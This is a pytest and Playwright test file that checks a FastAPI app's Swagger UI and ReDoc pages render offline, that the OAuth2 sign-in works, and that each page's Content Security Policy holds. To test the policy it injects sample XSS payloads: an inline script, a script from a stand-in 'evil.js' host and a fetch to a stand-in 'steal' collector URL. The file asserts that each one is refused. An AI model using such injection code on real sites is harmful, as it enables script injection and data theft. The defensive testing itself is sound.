"""Swagger UI and ReDoc in real Chromium with every host but the app's blocked: both render
every operation from the app's own files, Swagger's "Authorize" signs in through the OAuth2
password flow and "Try it out" then reads `/auth/me`, and each page's CSP is enforced (nothing
refused while the page works; an injected inline script, a foreign script and a foreign fetch
refused)."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from playwright.async_api import Browser, BrowserContext, ConsoleMessage, Page, Route

from quartet.local_ports import BROWSER_TEST_PORTS
from tests.accounts import PASSWORD, unique
from tests.servers import Server, first_free_port, uvicorn_server

HTTP_METHODS = {"get", "put", "post", "delete", "patch", "head", "options", "trace"}
RENDER_TIMEOUT_MS = 60_000  # the bundles parse slowly on a loaded machine
FOREIGN_SCRIPT = "https://cdn.example.com/evil.js"
FOREIGN_API = "https://collector.example.com/steal"

# Runs before the page's own scripts and is not subject to its policy (Playwright adds it):
# every CSP refusal of the page lands in window.__violations.
_WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push({directive: e.effectiveDirective, blocked: e.blockedURI});
});
"""
# What an XSS would try: an inline script, a script from another host, a call to another host.
_INJECT = """async ([scriptUrl, apiUrl]) => {
  const inline = document.createElement("script");
  inline.textContent = "window.__injected = true";
  document.body.appendChild(inline);
  const foreign = document.createElement("script");
  foreign.src = scriptUrl;
  const loaded = new Promise((done) => { foreign.onload = foreign.onerror = done; });
  document.body.appendChild(foreign);
  await loaded;
  const fetched = await fetch(apiUrl).then(() => "answered", () => "refused");
  return {injected: window.__injected === true, fetched};
}"""


@pytest.fixture(scope="module")
def docs_server(app: FastAPI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The app with its default settings (tokens in the body, as Swagger's Authorize needs)."""
    log = tmp_path_factory.mktemp("docs") / "uvicorn.log"
    with uvicorn_server(first_free_port(BROWSER_TEST_PORTS, "the app"), log) as server:
        yield server


@dataclass
class Watched:
    """What one browser profile tried to reach outside the app, and what its pages logged."""

    foreign: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)

    def note(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.console_errors.append(message.text)


@dataclass
class Offline:
    context: BrowserContext
    watched: Watched


@pytest.fixture
async def offline(browser: Browser, docs_server: Server) -> AsyncIterator[Offline]:
    """A profile that reaches the app's origin and nothing else: any other request is recorded
    and aborted."""
    watched = Watched()
    context = await browser.new_context()

    async def only_the_app(route: Route) -> None:
        if route.request.url.startswith(f"{docs_server.base_url}/"):
            await route.continue_()
        else:
            watched.foreign.append(route.request.url)
            await route.abort()

    await context.route("**/*", only_the_app)
    await context.add_init_script(_WATCH_VIOLATIONS)
    context.on("console", watched.note)
    try:
        yield Offline(context, watched)
    finally:
        await context.close()


@pytest.fixture
async def account(docs_server: Server, api: str) -> str:
    """A registered account's email."""
    email = f"{unique('docs')}@example.com"
    async with httpx.AsyncClient(base_url=docs_server.base_url, timeout=30) as http:
        created = await http.post(
            f"{api}/auth/register", json={"email": email, "password": PASSWORD}
        )
    assert created.status_code == 201, created.text
    return email


@pytest.fixture
async def operations(docs_server: Server) -> int:
    """How many operations the app's OpenAPI document has."""
    async with httpx.AsyncClient(base_url=docs_server.base_url, timeout=30) as http:
        document = (await http.get("/openapi.json")).json()
    return sum(len(HTTP_METHODS & set(item)) for item in document["paths"].values())


async def _open(offline: Offline, url: str) -> Page:
    page = await offline.context.new_page()
    response = await page.goto(url)
    assert response is not None
    assert response.status == 200, response.status
    return page


async def _violations(page: Page) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = await page.evaluate("window.__violations")
    return found


async def _assert_clean_then_csp_refuses_injection(page: Page, offline: Offline) -> None:
    """Nothing was refused or logged while the page worked; what an XSS would add is refused by
    the page's policy before any request leaves the browser."""
    assert await _violations(page) == []
    assert offline.watched.console_errors == []
    assert offline.watched.foreign == []

    outcome = await page.evaluate(_INJECT, [FOREIGN_SCRIPT, FOREIGN_API])

    assert outcome == {"injected": False, "fetched": "refused"}
    assert await _violations(page) == [
        {"directive": "script-src-elem", "blocked": "inline"},
        {"directive": "script-src-elem", "blocked": FOREIGN_SCRIPT},
        {"directive": "connect-src", "blocked": FOREIGN_API},
    ]
    assert offline.watched.foreign == []  # refused by the CSP, not by the test's blocking
    assert all("Content Security Policy" in error for error in offline.watched.console_errors)


async def test_swagger_lists_every_operation_and_authorize_signs_in(
    offline: Offline, docs_server: Server, account: str, operations: int, api: str
) -> None:
    page = await _open(offline, f"{docs_server.base_url}/docs")
    blocks = page.locator(".opblock")
    await blocks.first.wait_for(timeout=RENDER_TIMEOUT_MS)
    assert await blocks.count() == operations

    await page.locator(".scheme-container button.authorize").click()
    oauth = page.locator(".auth-container").filter(has_text="BearerToken")  # password flow
    await oauth.locator("#oauth_username").fill(account)
    await oauth.locator("#oauth_password").fill(PASSWORD)
    async with page.expect_response(f"**{api}/auth/token") as token_answer:
        await oauth.locator("button.authorize").click()
    assert (await token_answer.value).status == 200
    await oauth.locator("button", has_text="Logout").wait_for()  # Swagger holds the token
    await oauth.locator("button.btn-done").click()

    me = blocks.filter(has=page.locator(f'.opblock-summary-path[data-path="{api}/auth/me"]'))
    await me.locator(".opblock-summary").click()
    await me.locator("button.try-out__btn").click()
    async with page.expect_response(f"**{api}/auth/me") as me_answer:
        await me.locator("button.execute").click()
    answer = await me_answer.value
    assert answer.status == 200
    assert (await answer.request.header_value("authorization") or "").startswith("Bearer ")
    assert (await answer.json())["email"] == account
    shown = me.locator(".live-responses-table tr.response .response-col_status")
    assert (await shown.inner_text()).strip() == "200"

    await _assert_clean_then_csp_refuses_injection(page, offline)


async def test_redoc_renders_every_operation(
    offline: Offline, docs_server: Server, operations: int
) -> None:
    page = await _open(offline, f"{docs_server.base_url}/redoc")
    sections = page.locator('[data-section-id^="operation/"]')  # one per operation
    await sections.first.wait_for(timeout=RENDER_TIMEOUT_MS)
    assert await sections.count() == operations
    logo = page.locator('img[alt="redocly logo"]')  # served by the app, not Redocly's CDN
    await logo.wait_for()
    assert await logo.evaluate("(img) => img.complete && img.naturalWidth > 0")

    await _assert_clean_then_csp_refuses_injection(page, offline)
